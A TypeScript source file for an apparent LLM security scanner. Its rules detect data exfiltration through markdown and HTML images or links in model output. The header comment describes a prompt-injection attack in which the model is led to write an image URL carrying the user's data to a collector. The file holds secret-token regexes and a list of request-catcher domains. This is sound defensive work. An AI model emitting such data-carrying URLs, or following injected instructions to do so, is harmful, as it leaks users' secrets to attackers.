import type { DetectorRule, Rule, RuleHit } from './rule.js';
import { percentDecode } from './tool-args-decode.js';
import { blankFencedCode } from './tool-args-markdown.js';

/*
 * Exfiltration through rendered output. A markdown or HTML image is fetched the moment the
 * answer is displayed, so an injected instruction can make the model write
 * `![](https://collector/?q=<the user's data>)` and the data leaves without a click. Badges and
 * screenshots also carry query strings, so the rules look at what the URL carries: prose,
 * secrets, base64, e-mail addresses or unfilled template slots, in the query or in the path.
 */

/** Why a URL looks like it carries data. */
type DataReason = 'prose' | 'secret' | 'encoded' | 'email' | 'template' | 'long';

/** Shapes of API keys and tokens, the most valuable thing an injection can ship out. */
const SECRET_SHAPES: readonly RegExp[] = [
  /\b(?:sk|pk|rk)[-_](?:live|test|proj|ant)?[-_]?[A-Za-z0-9]{6,}/,
  /\b(?:ghp|gho|ghs|ghu|ghr)_[A-Za-z0-9]{10,}|\bgithub_pat_\w{10,}/,
  /\bxox[abpr]-[\w-]{10,}/,
  /\bAKIA[0-9A-Z]{16}\b|\bAIza[\w-]{20,}/,
  // JWT headers: base64 of {"alg", {"typ", {"kid", {"cty".
  /\beyJ(?:hbGci|0eXAi|raWQi|jdHki)/,
  /\bglpat-[\w-]{10,}|\bhf_[A-Za-z]{20,}|\bnpm_[A-Za-z0-9]{20,}/,
];
const EMAIL_DOMAIN = /^[A-Za-z0-9-]{1,63}(?:\.[A-Za-z0-9-]{1,63}){1,5}/;
const IMAGE_EXTENSION = /\.(?:svg|png|jpe?g|gif|webp|bmp|ico|avif)$/i;
const TEMPLATE_SLOT =
  /\[[A-Z][A-Z0-9_ ]{1,30}\]|\{\{?\s{0,2}[A-Za-z_][\w. ]{0,30}\}\}?|<[A-Z][A-Z0-9_]{1,30}>|\$[A-Z][A-Z0-9_]{2,30}\b|%[A-Z][A-Z0-9_]{2,30}%/;
const BASE64_RUN = /[A-Za-z0-9+/]{16,}|[A-Za-z0-9+/]{8,}={1,2}(?:$|[^=])/;

function hasEmail(text: string): boolean {
  let at = text.indexOf('@');
  while (at > 0) {
    let localStart = at;
    while (localStart > 0 && at - localStart < 64 && /[\w.+-]/.test(text[localStart - 1] ?? '')) {
      localStart -= 1;
    }
    const local = text.slice(localStart, at);
    const domain = EMAIL_DOMAIN.exec(text.slice(at + 1, at + 256));
    if (
      /^[A-Za-z0-9]/.test(local) &&
      domain !== null &&
      /\.[A-Za-z]{2,12}$/.test(domain[0]) &&
      !IMAGE_EXTENSION.test(domain[0])
    ) {
      return true;
    }
    at = text.indexOf('@', at + 1);
  }
  return false;
}

/** A run that reads as base64 rather than as words joined by dashes (`license-MIT-blue`). */
function looksEncoded(text: string): boolean {
  const run = BASE64_RUN.exec(text);
  if (run === null) return false;
  const value = run[0];
  return /=/.test(value) || (/[a-z]/.test(value) && /[A-Z]/.test(value) && /\d/.test(value));
}

/** Classifies one decoded query value or path segment. */
function dataReason(value: string, allowProse: boolean): DataReason | null {
  const trimmed = value.trim();
  if (trimmed.length < 4 || /^data:/i.test(trimmed)) return null;
  if (TEMPLATE_SLOT.test(trimmed)) return 'template';
  if (SECRET_SHAPES.some((shape) => shape.test(trimmed))) return 'secret';
  if (hasEmail(trimmed)) return 'email';
  // Four or more words: a sentence, not a parameter (badges say "Deploy on Replit").
  const words = trimmed.split(/[\s+]+/).filter((word) => /[A-Za-z]/.test(word));
  if (allowProse && words.length >= 4) return 'prose';
  if (looksEncoded(trimmed)) return 'encoded';
  if (allowProse && trimmed.length >= 64 && !/^(?:https?:)?\/\//i.test(trimmed)) return 'long';
  return null;
}

/**
 * Services that draw an image from the text in their URL (badges). Text there is the point,
 * and it is sent to the badge service, not to whoever wrote the markdown.
 */
const TEXT_IMAGE_HOSTS = [
  'img.shields.io',
  'shields.io',
  'badgen.net',
  'badge.fury.io',
  'forthebadge.com',
  'img.badgesize.io',
  'replit.com',
  'deepwiki.com',
];

function safeDecode(text: string): string {
  return percentDecode(text.replace(/\+/g, ' '));
}

interface UrlParts {
  host: string;
  path: string;
  query: string;
}

function splitHttpUrl(url: string): UrlParts | null {
  const match = /^(?:https?:)?\/\/([^/?#\s]{1,255})([^?#\s]{0,2048})(?:\?([^#\s]{0,4096}))?/i.exec(
    url,
  );
  if (match === null) return null;
  return { host: (match[1] ?? '').toLowerCase(), path: match[2] ?? '', query: match[3] ?? '' };
}

/**
 * Returns why a remote URL looks like it carries data, or null. Relative URLs carry nothing.
 * `allowProse: false` ignores sentences, for links, where `?q=how+to+...` is a search.
 */
export function urlDataReason(url: string, allowProse = true): DataReason | null {
  const parts = splitHttpUrl(url.trim());
  if (parts === null) return null;
  const host = parts.host.replace(/:\d+$/, '');
  const textHost = TEXT_IMAGE_HOSTS.some(
    (domain) => host === domain || host.endsWith(`.${domain}`),
  );
  const prose = allowProse && !textHost;
  for (const pair of parts.query.split('&')) {
    const equals = pair.indexOf('=');
    const value = safeDecode(equals >= 0 ? pair.slice(equals + 1) : pair);
    const reason = dataReason(value, prose);
    if (reason !== null) return reason;
  }
  for (const segment of parts.path.split('/')) {
    const stem = safeDecode(segment).replace(IMAGE_EXTENSION, '');
    const reason = dataReason(stem, prose);
    if (reason !== null && reason !== 'long') return reason;
  }
  // Data smuggled into a subdomain label, read back from DNS logs.
  const labels = parts.host.split('.').slice(0, -2);
  for (const label of labels) {
    if (
      label.length >= 20 &&
      /[a-z]/.test(label) &&
      /\d/.test(label) &&
      !/^[0-9a-f-]+$/.test(label)
    ) {
      return 'encoded';
    }
  }
  return null;
}

/** Request catchers and out-of-band interaction services: a sink, not a content host. */
const COLLECTOR_DOMAINS = [
  'webhook.site',
  'requestbin.com',
  'requestbin.net',
  'requestcatcher.com',
  'pipedream.net',
  'burpcollaborator.net',
  'oastify.com',
  'interact.sh',
  'oast.fun',
  'oast.live',
  'oast.me',
  'oast.online',
  'oast.pro',
  'oast.site',
  'canarytokens.com',
  'beeceptor.com',
  'hookbin.com',
  'postb.in',
  'ptsv2.com',
  'ptsv3.com',
  'dnslog.cn',
  'ceye.io',
  'requestinspector.com',
  'mockbin.org',
  'ngrok.io',
  'ngrok-free.app',
  'ngrok.app',
  'xss.ht',
];

function isCollectorHost(host: string): boolean {
  return COLLECTOR_DOMAINS.some((domain) => host === domain || host.endsWith(`.${domain}`));
}

/** The output with fenced code blanked (cached: every exfiltration rule reads it). */
let lastText: string | null = null;
let lastRendered = '';
function rendered(text: string): string {
  if (lastText !== text) {
    lastRendered = blankFencedCode(text);
    lastText = text;
  }
  return lastRendered;
}

interface FoundUrl {
  url: string;
  start: number;
  end: number;
  image: boolean;
}

const MARKDOWN_INLINE =
  /(!?)\[([^[\]\n]{0,500})\]\([ \t]{0,4}<?([^()\s<>]{1,2048})>?(?:[ \t]{1,4}(?:"[^"\n]{0,300}"|'[^'\n]{0,300}'))?[ \t]{0,4}\)/g;
const MARKDOWN_DEFINITION =
  /^[ \t]{0,3}\[([^[\]\n]{1,200})\]:[ \t]{0,8}<?([^\s<>]{1,2048})>?(?:[ \t]{1,8}["'(][^\n]{0,300})?$/gm;
const MARKDOWN_REFERENCE_IMAGE = /!\[([^[\]\n]{0,500})\](?:\[([^[\]\n]{0,200})\])?/g;

/** Finds markdown images and links, including reference-style images. */
function findMarkdownUrls(text: string): FoundUrl[] {
  const found: FoundUrl[] = [];
  MARKDOWN_INLINE.lastIndex = 0;
  let match = MARKDOWN_INLINE.exec(text);
  while (match !== null && found.length < 200) {
    found.push({
      url: match[3] ?? '',
      start: match.index,
      end: match.index + match[0].length,
      image: match[1] === '!',
    });
    match = MARKDOWN_INLINE.exec(text);
  }
  if (text.indexOf(']:') < 0) return found;
  const definitions = new Map<string, { url: string; start: number; end: number }>();
  MARKDOWN_DEFINITION.lastIndex = 0;
  match = MARKDOWN_DEFINITION.exec(text);
  while (match !== null && definitions.size < 200) {
    definitions.set((match[1] ?? '').trim().toLowerCase(), {
      url: match[2] ?? '',
      start: match.index,
      end: match.index + match[0].length,
    });
    match = MARKDOWN_DEFINITION.exec(text);
  }
  if (definitions.size === 0) return found;
  const imageLabels = new Set<string>();
  MARKDOWN_REFERENCE_IMAGE.lastIndex = 0;
  match = MARKDOWN_REFERENCE_IMAGE.exec(text);
  while (match !== null && imageLabels.size < 200) {
    const label = (match[2] === undefined || match[2] === '' ? match[1] : match[2]) ?? '';
    imageLabels.add(label.trim().toLowerCase());
    match = MARKDOWN_REFERENCE_IMAGE.exec(text);
  }
  for (const [label, definition] of definitions) {
    found.push({ ...definition, image: imageLabels.has(label) });
  }
  return found;
}

const HTML_IMAGE = /<(?:img|image)\b[^>]{0,2000}>?/gi;
const ATTRIBUTE =
  /\b(src|srcset|href|width|height|style|hidden)\s{0,4}=\s{0,4}(?:"([^"]{0,2048})"|'([^']{0,2048})'|([^\s>"']{1,2048}))/gi;

interface HtmlImage {
  start: number;
  end: number;
  urls: string[];
  invisible: boolean;
}

function findHtmlImages(text: string): HtmlImage[] {
  const found: HtmlImage[] = [];
  HTML_IMAGE.lastIndex = 0;
  let match = HTML_IMAGE.exec(text);
  while (match !== null && found.length < 200) {
    const tag = match[0];
    const urls: string[] = [];
    let width: string | null = null;
    let height: string | null = null;
    let hidden = /\shidden(?:\s|>|\/|$)/i.test(tag);
    ATTRIBUTE.lastIndex = 0;
    let attribute = ATTRIBUTE.exec(tag);
    while (attribute !== null) {
      const name = (attribute[1] ?? '').toLowerCase();
      const value = attribute[2] ?? attribute[3] ?? attribute[4] ?? '';
      if (name === 'src' || name === 'href') urls.push(value);
      else if (name === 'srcset')
        urls.push(...value.split(',').map((part) => part.trim().split(/\s/)[0] ?? ''));
      else if (name === 'width') width = value.trim();
      else if (name === 'height') height = value.trim();
      else if (
        name === 'style' &&
        /display\s{0,4}:\s{0,4}none|visibility\s{0,4}:\s{0,4}hidden|(?:width|height)\s{0,4}:\s{0,4}[01](?:px)?\b|opacity\s{0,4}:\s{0,4}0(?:\.0)?\b/i.test(
          value,
        )
      ) {
        hidden = true;
      }
      attribute = ATTRIBUTE.exec(tag);
    }
    const tiny = (size: string | null): boolean => size !== null && /^[01](?:px)?$/i.test(size);
    found.push({
      start: match.index,
      end: match.index + tag.length,
      urls,
      invisible: hidden || tiny(width) || tiny(height),
    });
    match = HTML_IMAGE.exec(text);
  }
  return found;
}

const markdownImageData: DetectorRule = {
  id: 'exfil.markdown-image-data',
  type: 'detector',
  category: 'data_exfiltration',
  severity: 'high',
  rationale:
    'A markdown image whose URL carries data (a sentence, a secret, base64, an e-mail, a template slot): the renderer fetches it at once, sending that data to the image host.',
  score: 0.9,
  kinds: ['output', 'tool_result'],
  target: 'raw',
  keywords: ['!['],
  detect(text) {
    const hits: RuleHit[] = [];
    for (const found of findMarkdownUrls(rendered(text))) {
      if (found.image && urlDataReason(found.url) !== null) {
        hits.push({ start: found.start, end: found.end });
      }
    }
    return hits;
  },
};

const markdownLinkData: DetectorRule = {
  id: 'exfil.markdown-link-data',
  type: 'detector',
  category: 'data_exfiltration',
  severity: 'medium',
  rationale:
    'A markdown link whose URL carries data (a secret, base64, an e-mail, a template slot; not a search phrase): one click sends it to the link host.',
  score: 0.75,
  kinds: ['output', 'tool_result'],
  target: 'raw',
  keywords: ['](', ']:'],
  detect(text) {
    const hits: RuleHit[] = [];
    for (const found of findMarkdownUrls(rendered(text))) {
      if (!found.image && urlDataReason(found.url, false) !== null) {
        hits.push({ start: found.start, end: found.end });
      }
    }
    return hits;
  },
};

const htmlImageData: DetectorRule = {
  id: 'exfil.html-image-data',
  type: 'detector',
  category: 'data_exfiltration',
  severity: 'high',
  rationale:
    'An HTML <img> whose URL carries data (a sentence, a secret, base64, an e-mail, a template slot): fetched on render, shipping the data to the image host.',
  score: 0.9,
  kinds: ['output', 'tool_result'],
  target: 'raw',
  keywords: ['<img', '<image'],
  detect(text) {
    return findHtmlImages(rendered(text))
      .filter((image) => image.urls.some((url) => urlDataReason(url) !== null))
      .map((image) => ({ start: image.start, end: image.end }));
  },
};

const invisibleImage: DetectorRule = {
  id: 'exfil.invisible-image',
  type: 'detector',
  category: 'data_exfiltration',
  severity: 'medium',
  rationale:
    'A remote image made invisible (1x1, width=0, display:none, hidden): a tracking or exfiltration beacon has no other reason to hide.',
  score: 0.75,
  kinds: ['output', 'tool_result'],
  target: 'raw',
  keywords: ['<img', '<image'],
  detect(text) {
    return findHtmlImages(rendered(text))
      .filter(
        (image) => image.invisible && image.urls.some((url) => splitHttpUrl(url.trim()) !== null),
      )
      .map((image) => ({ start: image.start, end: image.end }));
  },
};

const requestCatcher: DetectorRule = {
  id: 'exfil.request-catcher',
  type: 'detector',
  category: 'data_exfiltration',
  severity: 'medium',
  rationale:
    'An image or link points at a request-catcher or out-of-band interaction service (webhook.site, pipedream, interact.sh, Burp Collaborator): a place to collect data, not to serve content.',
  score: 0.8,
  kinds: ['output', 'tool_result'],
  target: 'raw',
  keywords: COLLECTOR_DOMAINS,
  detect(text) {
    const hits: RuleHit[] = [];
    const urls: FoundUrl[] = [...findMarkdownUrls(rendered(text))];
    for (const image of findHtmlImages(rendered(text))) {
      for (const url of image.urls)
        urls.push({ url, start: image.start, end: image.end, image: true });
    }
    for (const found of urls) {
      const parts = splitHttpUrl(found.url.trim());
      if (parts !== null && isCollectorHost(parts.host.replace(/:\d+$/, ''))) {
        hits.push({ start: found.start, end: found.end });
      }
    }
    return hits;
  },
};

export const exfiltrationRules: readonly Rule[] = [
  markdownImageData,
  htmlImageData,
  invisibleImage,
  markdownLinkData,
  requestCatcher,
];
